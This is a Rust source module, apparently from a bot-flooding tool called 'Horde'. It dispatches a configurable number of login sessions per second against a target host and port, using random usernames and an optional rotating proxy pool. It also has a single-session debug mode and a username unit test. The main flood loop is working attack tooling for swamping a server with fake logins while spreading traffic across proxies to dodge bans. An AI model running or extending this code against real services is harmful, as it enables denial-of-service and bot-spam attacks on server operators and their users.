use std::{sync::Arc, time::Duration};

use rand::Rng;
use tokio::sync::{broadcast, Semaphore};

use crate::{
    config::HordeConfig,
    logging::HordeLogger,
    proxy::{ProxyEndpoint, ProxyPool},
    session::Session,
};

const USERNAME_CHARSET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

/// 5-7 characters, uniform over the charset.
pub fn random_username() -> String {
    let mut rng = rand::thread_rng();
    let len = rng.gen_range(5..=7);
    (0..len)
        .map(|_| USERNAME_CHARSET[rng.gen_range(0..USERNAME_CHARSET.len())] as char)
        .collect()
}

/// Drives session creation: one debug session, or `bots_per_second` login
/// sessions per tick. Sessions are fire-and-forget; nothing a session does
/// can stop the tick loop or another session.
pub struct Horde {
    config: HordeConfig,
    proxies: ProxyPool,
    sessions: Arc<Semaphore>,
    stop: &'static broadcast::Sender<()>,
}

impl Horde {
    pub fn new(
        config: HordeConfig,
        proxies: ProxyPool,
        stop: &'static broadcast::Sender<()>,
    ) -> Self {
        let sessions = Arc::new(Semaphore::new(config.max_sessions as usize));
        Self {
            config,
            proxies,
            sessions,
            stop,
        }
    }

    pub async fn start(&'static self) -> anyhow::Result<()> {
        if self.config.debug {
            self.run_debug().await
        } else {
            self.run_flood().await
        }
    }

    fn uses_proxies(&self) -> bool {
        self.config.proxy_url.is_some()
    }

    /// Picks a proxy for one session, or `None` for direct mode. `Err` means
    /// the pool is configured but empty and the attempt must be skipped.
    fn select_proxy(&self) -> Result<Option<ProxyEndpoint>, ()> {
        if !self.uses_proxies() {
            return Ok(None);
        }
        match self.proxies.pick() {
            Some(proxy) => Ok(Some(proxy.clone())),
            None => {
                HordeLogger::no_proxy_available();
                Err(())
            }
        }
    }

    fn connect_timeout(&self) -> Duration {
        Duration::from_secs(self.config.connect_timeout_secs)
    }

    /// One probe-then-login session with a fixed name against the configured
    /// target, run to completion in the foreground.
    async fn run_debug(&self) -> anyhow::Result<()> {
        log::info!("Entering debug mode");
        let Ok(proxy) = self.select_proxy() else {
            anyhow::bail!("proxy pool is empty");
        };

        let mut session = Session::new(
            "BotDebug".to_string(),
            self.config.target_host.clone(),
            self.config.target_port,
            proxy,
            self.connect_timeout(),
        );

        match session.probe().await {
            Ok(_) => {
                if let Err(err) = session.login().await {
                    HordeLogger::session_failed(&session.username, "login", &err);
                }
            }
            Err(err) => HordeLogger::session_failed(&session.username, "probe", &err),
        }
        Ok(())
    }

    async fn run_flood(&'static self) -> anyhow::Result<()> {
        HordeLogger::flood_started(
            self.config.bots_per_second,
            &self.config.target_host,
            self.config.target_port,
        );

        let mut stop = self.stop.subscribe();
        let mut ticker = tokio::time::interval(Duration::from_secs(1));
        let mut dispatched: u64 = 0;

        loop {
            tokio::select! {
                _ = ticker.tick() => {}
                _ = stop.recv() => return Ok(()),
            }

            for _ in 0..self.config.bots_per_second {
                if self
                    .config
                    .bot_count
                    .is_some_and(|limit| dispatched >= limit)
                {
                    break;
                }

                // An empty pool skips the attempt; the timer keeps running.
                let Ok(proxy) = self.select_proxy() else {
                    continue;
                };

                self.dispatch(random_username(), proxy);
                dispatched += 1;
            }

            if self
                .config
                .bot_count
                .is_some_and(|limit| dispatched >= limit)
            {
                HordeLogger::dispatch_complete(dispatched);
                return Ok(());
            }
        }
    }

    /// Spawns one probe-gated login session. The semaphore is the only
    /// shared resource: dispatches past the ceiling queue on it.
    fn dispatch(&self, username: String, proxy: Option<ProxyEndpoint>) {
        let sessions = self.sessions.clone();
        let host = self.config.target_host.clone();
        let port = self.config.target_port;
        let deadline = self.connect_timeout();

        tokio::spawn(async move {
            let Ok(_permit) = sessions.acquire_owned().await else {
                return;
            };

            let mut session = Session::new(username, host, port, proxy, deadline);
            match session.probe().await {
                Ok(_) => {
                    if let Err(err) = session.login().await {
                        HordeLogger::session_failed(&session.username, "login", &err);
                    }
                }
                Err(err) => HordeLogger::session_failed(&session.username, "probe", &err),
            }
        });
    }
}

#[cfg(test)]
mod tests {
    use super::random_username;

    #[test]
    fn usernames_are_bounded_alphanumeric() {
        for _ in 0..64 {
            let name = random_username();
            assert!((5..=7).contains(&name.len()), "bad length: {name}");
            assert!(name.chars().all(|c| c.is_ascii_alphanumeric()));
        }
    }
}
